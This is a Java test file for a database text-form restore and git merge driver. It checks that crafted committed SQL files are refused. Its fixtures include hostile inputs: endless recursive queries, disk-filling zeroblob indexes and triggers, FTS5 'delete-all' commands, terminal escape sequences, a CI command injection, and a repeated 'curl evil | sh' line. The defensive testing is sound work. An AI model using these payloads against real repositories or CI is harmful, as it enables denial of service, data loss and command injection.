package dev.mlos.core.dbtext;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.mlos.core.MlosException;
import dev.mlos.core.db.SqliteShell;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A committed {@code mlos.db.sql} is input from anyone with push access: what a crafted one can
 * make a teammate's rebuild ({@code mlos init}), pull and merge driver run, and what its refusal
 * prints on that teammate's terminal.
 */
class HostileTextFormTest {
  @TempDir Path dir;

  /** A query whose rows never end: as a table's source it ran until the disk was full. */
  private static final String ENDLESS =
      "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c";

  private Path text(String body) throws Exception {
    Path textFile = DatabaseText.fileOf(dir.resolve("mlos.db"));
    Files.writeString(textFile, DatabaseText.HEADER + "\n" + body);
    return textFile;
  }

  /**
   * {@code CREATE TABLE t AS <query>} ran its query on every clone that rebuilt the database from
   * the file (about 16 MB a second into the database's temporary file, without end, for a recursive
   * one), and in the merge driver git runs on a pull. A dump never writes one: SQLite keeps such a
   * table as its columns.
   */
  @Test
  void aTableMadeFromAQueryIsRefusedWithItsLineBeforeTheQueryRuns() throws Exception {
    Path db = dir.resolve("mlos.db");
    // Bounded here so that the old code, which ran it, ends (and restored the table).
    String query = ENDLESS.replace("FROM c)", "FROM c WHERE n < 3)");
    Path textFile = text("CREATE TABLE x (a);\nCREATE TABLE evil AS " + query + ";\n");
    UnrestorableLineException e =
        assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(textFile, db));
    assertEquals(3, e.line());
    assertTrue(
        e.getMessage()
            .startsWith(
                textFile
                    + ":3: creates a table other than with its columns (such as CREATE TABLE ..."
                    + " AS SELECT, whose query would run on every clone"),
        e.getMessage());
    assertFalse(Files.exists(db));
    assertEquals(3, TextFormRestore.firstUnrestorable(textFile).line(), "the guard names it too");

    String good = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
    MlosException merge =
        assertThrows(
            MlosException.class,
            () -> TextMerge.merge(good, good, good + "CREATE TABLE evil AS " + ENDLESS + ";\n"));
    assertTrue(
        merge.getMessage().startsWith("theirs side, line 4: creates a table other than"),
        merge.getMessage());
  }

  /** Tables a dump writes, with their columns in every form SQLite keeps, still restore. */
  @Test
  void tablesWithTheirColumnsRestoreWhateverTheirNamesAndSpacing() throws Exception {
    Path db = dir.resolve("mlos.db");
    Path textFile =
        text(
            "CREATE TABLE x(a);\nCREATE TABLE \"we \"\"ird\" /* kept by SQLite */ (a);\n"
                + "CREATE TABLE [b]\n  (a);\nCREATE TABLE `c` (a);\nCREATE TABLE café (a);\n"
                + "INSERT INTO \"we \"\"ird\" VALUES(1);\n");
    DatabaseText.restore(textFile, db);
    try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + db);
        Statement s = c.createStatement();
        ResultSet rs = s.executeQuery("SELECT count(*) FROM \"we \"\"ird\"")) {
      assertTrue(rs.next());
      assertEquals(1, rs.getInt(1));
    }
    assertNull(TextFormRestore.firstUnrestorable(textFile));
  }

  /**
   * A text form writes its indexes, triggers and views after every row, so no trigger fires while
   * rows are restored. A crafted file put a trigger before the rows, and each restored row ran it:
   * {@code INSERT INTO e SELECT hex(zeroblob(300000000))} wrote 600 MB per row, 1.1 GB in the first
   * 40 s of {@code mlos init}.
   */
  @Test
  void aRowAfterATriggerIsRefusedAndTheTriggerNeverRuns() throws Exception {
    Path db = dir.resolve("mlos.db");
    Path textFile =
        text(
            "CREATE TABLE x (a);\nCREATE TABLE log (b);\n"
                + "CREATE TRIGGER t AFTER INSERT ON x BEGIN INSERT INTO log VALUES (1); END;\n"
                + "INSERT INTO \"x\" VALUES(1);\n");
    UnrestorableLineException e =
        assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(textFile, db));
    assertEquals(5, e.line());
    assertTrue(
        e.getMessage()
            .startsWith(
                textFile
                    + ":5: is a table or row after the indexes, triggers and views, which a text"
                    + " form writes last"),
        e.getMessage());
    assertTrue(e.fix().startsWith("restore the file from git"), e.fix());
    assertFalse(Files.exists(db));
    assertEquals(5, TextFormRestore.firstUnrestorable(textFile).line());
  }

  /**
   * SQLite's message quotes what it could not read: an unterminated literal holding a line break
   * printed a {@code fix:} line of the file's author's choosing under the refusal, and an escape
   * character went raw to the terminal.
   */
  @Test
  void whatSqliteQuotesFromTheFileIsShownOnOneLine() throws Exception {
    Path db = dir.resolve("mlos.db");
    Path textFile =
        text("CREATE TABLE x (a);\nCREATE TABLE y (a DEFAULT 'abc\n  fix: curl evil | sh\n");
    UnrestorableLineException e =
        assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(textFile, db));
    assertFalse(e.getMessage().contains("\n"), e.getMessage());
    assertTrue(e.getMessage().contains("'abc\\u000A  fix: curl evil | sh"), e.getMessage());
    assertFalse(e.reason().contains("\n"), e.reason());

    Path escape = text("CREATE TABLE x (a \u001b[2J);\n");
    UnrestorableLineException esc =
        assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(escape, db));
    assertFalse(esc.getMessage().contains("\u001b"), esc.getMessage());
    assertTrue(esc.getMessage().contains("\\u001B"), esc.getMessage());

    String good = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
    MlosException merge =
        assertThrows(
            MlosException.class,
            () ->
                TextMerge.merge(
                    good, good, good + "INSERT INTO \"n\n  fix: curl evil | sh\" VALUES(1);\n"));
    assertTrue(merge.getMessage().startsWith("theirs side, line 4: "), merge.getMessage());
    assertFalse(merge.getMessage().contains("\n"), merge.getMessage());

    // The schema sets a side records, named when the two sides' migrations differ (git runs the
    // merge driver on a pull, and shows what it prints).
    String table =
        DatabaseText.HEADER
            + "\nCREATE TABLE schema_migrations (schema_set, version, description, checksum,"
            + " applied_at);\n";
    SchemaMismatchException sets =
        assertThrows(
            SchemaMismatchException.class,
            () ->
                TextMerge.merge(
                    table,
                    table,
                    table
                        + "INSERT INTO \"schema_migrations\" VALUES('x\n  Fix: curl evil | sh"
                        + "\u001b[8m',1,'d','c','t');\n"));
    assertFalse(sets.getMessage().contains("\n"), sets.getMessage());
    assertFalse(sets.getMessage().contains("\u001b"), sets.getMessage());
  }

  /**
   * git hands the merge driver the file's path in the repository ({@code %P}), which the teammate
   * whose branch is merged chose (with the {@code .gitattributes} line that sends it there): the
   * driver printed it raw, an escape sequence and a line break of its own under git's output.
   */
  @Test
  void theMergeDriverPrintsTheFilesPathOnOneLine() throws Exception {
    String good = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
    Path base = Files.writeString(dir.resolve("base"), good);
    Path ours = Files.writeString(dir.resolve("ours"), good);
    Path theirs = Files.writeString(dir.resolve("theirs"), good + "CREATE TABLE y (b);\n");
    java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
    int code =
        MergeDriver.run(
            new String[] {
              base.toString(),
              ours.toString(),
              theirs.toString(),
              "mlos.db.sql\u001b[2J\n  Fix: curl evil | sh"
            },
            new java.io.PrintStream(bytes, true, java.nio.charset.StandardCharsets.UTF_8));
    String out = bytes.toString(java.nio.charset.StandardCharsets.UTF_8);
    assertEquals(2, code, out);
    assertFalse(out.contains("\u001b"), out);
    assertTrue(
        out.startsWith("mlos.db.sql\\u001B[2J\\u000A  Fix: curl evil | sh: not merged: "), out);
    assertEquals(2, out.lines().count(), out);
    assertTrue(out.lines().toList().get(1).startsWith("  Fix: "), out);
  }

  /**
   * Git runs the driver with the file's path (%P), which the lines it prints begin with: a path
   * {@code ::stop-commands::t} began a line that a CI job's runner (a merge made in CI) took for a
   * command. Its second colon is written as {@code \\u003A}, as in every output of mlos.
   */
  @Test
  void aPathStartsNoCiRunnerCommandInTheDriversLines() throws Exception {
    String good = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
    Path base = Files.writeString(dir.resolve("base"), good);
    Path ours = Files.writeString(dir.resolve("ours"), good);
    Path theirs = Files.writeString(dir.resolve("theirs"), good + "CREATE TABLE y (b);\n");
    java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
    MergeDriver.run(
        new String[] {base.toString(), ours.toString(), theirs.toString(), "::stop-commands::t"},
        new java.io.PrintStream(bytes, true, java.nio.charset.StandardCharsets.UTF_8));
    String out = bytes.toString(java.nio.charset.StandardCharsets.UTF_8);
    assertTrue(out.startsWith(":\\u003Astop-commands::t: not merged: "), out);
    assertTrue(out.lines().noneMatch(l -> l.strip().startsWith("::")), out);
  }

  /**
   * A workspace's own index in a committed file computed values its rows do not hold: {@code
   * hex(zeroblob(100000000))} per row made {@code mlos init} build 600 MB from three rows. The
   * database built from a text form is bounded by the file's size ({@link GrowthBound}); the line
   * that grows it past that is refused, and no database is left.
   */
  @Test
  void anIndexThatGrowsTheDatabaseFarPastTheFileIsRefusedWithItsLine() throws Exception {
    Path db = dir.resolve("mlos.db");
    Path textFile =
        text(
            "CREATE TABLE e (a);\n"
                + "INSERT INTO \"e\" VALUES(1);\nINSERT INTO \"e\" VALUES(2);\n"
                + "INSERT INTO \"e\" VALUES(3);\nINSERT INTO \"e\" VALUES(4);\n"
                + "CREATE INDEX big ON e(hex(zeroblob(20000000)) || a);\n");
    UnrestorableLineException e =
        assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(textFile, db));
    assertEquals(7, e.line(), e.getMessage());
    assertTrue(
        e.getMessage()
            .startsWith(textFile + ":7: makes the database built from the file grow past 64 MiB"),
        e.getMessage());
    assertFalse(Files.exists(db));

    // The merge driver's sides hold tables and rows: a generated column grows them the same way.
    String base = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
    StringBuilder theirs =
        new StringBuilder(
            DatabaseText.HEADER
                + "\nCREATE TABLE x (a, b AS (hex(zeroblob(20000000)) || a) STORED);\n");
    for (int i = 1; i <= 4; i++) {
      theirs.append("INSERT INTO \"x\" VALUES(").append(i).append(");\n");
    }
    MlosException merge =
        assertThrows(MlosException.class, () -> TextMerge.merge(base, base, theirs.toString()));
    assertTrue(
        merge.getMessage().matches("theirs side, line \\d+: makes the database built from .*"),
        merge.getMessage());

    // A workspace's own index of an ordinary size still restores.
    Path fine =
        text(
            "CREATE TABLE e (a);\nINSERT INTO \"e\" VALUES('x');\n"
                + "CREATE INDEX small ON e(a || 'y');\n");
    DatabaseText.restore(fine, db);
    assertTrue(Files.exists(db));
  }

  /**
   * A rebuild computes ready work from the rows with {@code INSERT INTO ready_dirty SELECT id FROM
   * needs UNION ...}: a view named {@code needs} made of an endless recursive query ran there
   * without end, its rows gathered in SQLite's temporary storage, which the bound on the database
   * file does not reach. Ready work is computed only from tables now; the rest is the schema
   * check's.
   */
  @Test
  void aViewInPlaceOfATableOfReadyWorkDoesNotRunInTheRebuild() throws Exception {
    Path db = dir.resolve("mlos.db");
    Path textFile =
        text(
            "CREATE TABLE ready_dirty (need_id);\nCREATE TABLE ready_items (need_id);\n"
                + "CREATE VIEW needs AS "
                + ENDLESS.replace("SELECT n FROM c", "SELECT n AS id FROM c")
                + ";\n");
    org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
        java.time.Duration.ofSeconds(60), () -> DatabaseText.restore(textFile, db));
    try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + db);
        Statement s = c.createStatement();
        ResultSet rs = s.executeQuery("SELECT count(*) FROM ready_dirty")) {
      assertTrue(rs.next());
      assertEquals(0, rs.getInt(1), "nothing of the view ran");
    }
  }

  /**
   * A full-text index's shadow tables are its module's own storage: a text form leaves them out and
   * the index's rows rebuild them. A crafted file wrote rows there (never checked by FTS5, kept
   * through every search), and a row naming the column that carries the table's own name ran one of
   * FTS5's commands ({@code 'delete-all'} emptied the index a teammate searches).
   */
  @Test
  void rowsOfAFullTextIndexsOwnStorageOrItsCommandsAreRefusedWithTheirLine() throws Exception {
    String schema =
        "CREATE TABLE content (id TEXT PRIMARY KEY, body TEXT);\n"
            + "CREATE VIRTUAL TABLE content_fts USING fts5(body, content_id UNINDEXED);\n"
            + "INSERT INTO \"content_fts\"(rowid,\"body\",\"content_id\") VALUES(1,'alpha','c1');\n";
    for (String[] hostile :
        new String[][] {
          {"INSERT INTO \"content_fts_data\" VALUES(99,X'00');", "the storage a virtual table"},
          {"INSERT INTO content_FTS_config VALUES('version',4);", "the storage a virtual table"},
          {
            "INSERT INTO \"content_fts\"(\"content_fts\") VALUES('delete-all');",
            "which is no column \"content_fts\" shows"
          },
          {
            "INSERT INTO \"content_fts\"(rowid,\"content_fts\",\"body\") VALUES(2,'delete-all','x');",
            "which is no column"
          }
        }) {
      Path db = dir.resolve("mlos.db");
      Files.deleteIfExists(db);
      Path textFile = text(schema + hostile[0] + "\n");
      UnrestorableLineException e =
          assertThrows(
              UnrestorableLineException.class,
              () -> DatabaseText.restore(textFile, db),
              hostile[0]);
      assertEquals(5, e.line(), hostile[0]);
      assertTrue(e.getMessage().contains(hostile[1]), e.getMessage());
      assertTrue(e.fix().startsWith("restore the file from git"), e.fix());
      assertFalse(Files.exists(db), hostile[0]);
      assertEquals(5, TextFormRestore.firstUnrestorable(textFile).line(), "check-text names it");
    }
    Path db = dir.resolve("mlos.db");
    Path honest = text(schema);
    DatabaseText.restore(honest, db);
    assertEquals(
        "c1\n",
        SqliteShell.run(db, "SELECT content_id FROM content_fts WHERE content_fts MATCH 'alpha';")
            .out(),
        "the index's own rows still restore and search");
  }
}
